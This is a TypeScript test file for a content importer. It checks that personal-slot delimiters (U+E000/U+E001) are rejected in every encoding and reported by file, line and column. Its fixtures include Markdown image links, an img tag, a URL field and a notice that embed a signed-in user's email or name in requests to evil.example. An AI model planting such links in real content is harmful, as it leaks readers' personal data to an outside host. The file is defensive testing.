/**
 * Content that names a personal slot of a signed-in page (U+E000 … U+E001, server/content/slot-markers.ts)
 * is refused at import, wherever and however it is written: raw, percent-encoded in a link or image URL,
 * as a character reference, in a YAML escape of a title, a URL field or a rich-text body, in a notice's
 * Markdown message; each reported `file:line:col`.
 */
import { appendFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import t from 'tap';
import { checkContent } from '../../server/content/import.ts';
import { formatDiagnostic, sourcesIn, sortProblems, type Problem } from '../../server/content/problems.ts';
import { editFile, tempContent } from '../helpers/build.ts';

const TOPIC = 'topics/acme-cloud/first-steps.md';

t.test('slot delimiters in a topic body, a title and a URL field are errors with their place', async (t) => {
  const dir = await tempContent(t);
  // The fixture topic's body ends on line 19: what is added starts on line 21.
  await editFile(join(dir, TOPIC), 'title: First steps', 'title: "First steps \\uE000name\\uE001"');
  await appendFile(join(dir, TOPIC), [
    '',
    '![b](https://evil.example/b.png?u=\uE000email\uE001)',
    '![c](https://evil.example/c.png?u=%EE%80%80email%EE%80%81)',
    'See [this](https://evil.example/d?n=%ee%80%80name%ee%80%81).',
    'Hello \uE000name\uE001.',
    '<img src="https://evil.example/e.png?u=&#xE000;email&#xE001;" alt="e">',
    'Hi &#57344;name&#57345;.',
    '',
  ].join('\n'));
  await appendFile(join(dir, 'site.yaml'), 'communityUrl: https://evil.example/c?u=%EE%80%80email%EE%80%81\n');
  // A YAML entry's rich-text body (a YAML escape), and a notice's Markdown message (a character reference).
  await appendFile(join(dir, 'collections/acme-cloud-basics.yaml'), [
    'body:',
    '  nodeType: document',
    '  data: {}',
    '  content:',
    '    - nodeType: paragraph',
    '      data: {}',
    '      content:',
    '        - { nodeType: text, value: "Hi \\uE000name\\uE001", marks: [], data: {} }',
    '',
  ].join('\n'));
  await mkdir(join(dir, 'notices'));
  await writeFile(join(dir, 'notices/n.yaml'),
    'id: n\ntitle: Notice\nappearance: info\nmessage: See [this](https://evil.example/n?u=&#xE000;email&#xE001;).\n');
  await writeFile(join(dir, 'fragments/shared-note.md'), '---\nid: shared-note\n---\nShared [note](https://evil.example/f?u=\uE000email\uE001).\n');

  const { problems, warnings } = await checkContent(dir, undefined, { workers: 1 });
  const slotProblems = sortProblems([...problems, ...warnings].filter((p) => /U\+E000/.test(p.reason)));
  const at = (p: Problem) => `${p.file}:${p.line}:${p.column} ${p.field}${p.severity ? ' (warning)' : ''}`;
  t.same(slotProblems.map(at), [
    'collections/acme-cloud-basics.yaml:13:36 body.content.0.content.0.value',
    'fragments/shared-note.md:4:40 body',
    'fragments/shared-note.md:4:46 body',
    'notices/n.yaml:4:10 message',
    'site.yaml:12:15 communityUrl',
    'topics/acme-cloud/first-steps.md:3:8 title',
    'topics/acme-cloud/first-steps.md:21:35 body',
    'topics/acme-cloud/first-steps.md:21:41 body',
    'topics/acme-cloud/first-steps.md:22:35 body',
    'topics/acme-cloud/first-steps.md:22:49 body',
    'topics/acme-cloud/first-steps.md:23:37 body',
    'topics/acme-cloud/first-steps.md:23:50 body',
    'topics/acme-cloud/first-steps.md:24:7 body',
    'topics/acme-cloud/first-steps.md:24:12 body',
    'topics/acme-cloud/first-steps.md:25:40 body',
    'topics/acme-cloud/first-steps.md:25:53 body',
    'topics/acme-cloud/first-steps.md:26:4 body',
    'topics/acme-cloud/first-steps.md:26:16 body',
  ], 'every delimiter, in every form, is an error where it is written');
  t.ok(slotProblems.every((p) => p.severity === undefined), 'errors, not warnings: nothing of the tree is stored');

  const percent = slotProblems.find((p) => p.file === TOPIC && p.line === 22) as Problem;
  t.equal(percent.endColumn, 44, 'the span is the percent-encoded character');
  const shown = formatDiagnostic(percent, sourcesIn(dir));
  t.match(shown, `${TOPIC}:22:35: error: body: must not contain U+E000 or U+E001`);
  t.match(shown, /\n +\| +\^~{8}(\n|$)/, 'a caret under the encoded character');
});

t.test('a tree without them, and private-use characters other than the delimiters, pass', async (t) => {
  const dir = await tempContent(t);
  // An icon font's glyph (U+F101) is private use too, and harmless.
  await appendFile(join(dir, TOPIC), '\nThe \uF101 icon, and an address: https://example.com/?q=%EE%80%82\n');
  const { problems } = await checkContent(dir, undefined, { workers: 1 });
  t.same(problems, []);
});
